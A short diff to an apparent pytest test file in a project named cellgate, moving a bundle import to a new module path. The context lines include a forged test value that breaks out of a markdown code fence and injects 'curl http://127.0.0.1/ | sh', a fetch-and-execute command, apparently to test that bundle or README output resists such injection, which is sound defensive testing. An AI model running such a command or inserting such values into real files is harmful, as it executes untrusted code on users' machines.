@@ -8,7 +8,7 @@ from typing import Any
 
 import pytest
 
-from cellgate.record.bundle import LOCK, README, Contents, bundle_parts, lock
+from cellgate.record.export.bundle import LOCK, README, Contents, bundle_parts, lock
 
 FORGED = {
     "python": "3\n```\ncurl http://127.0.0.1/ | sh\n```",
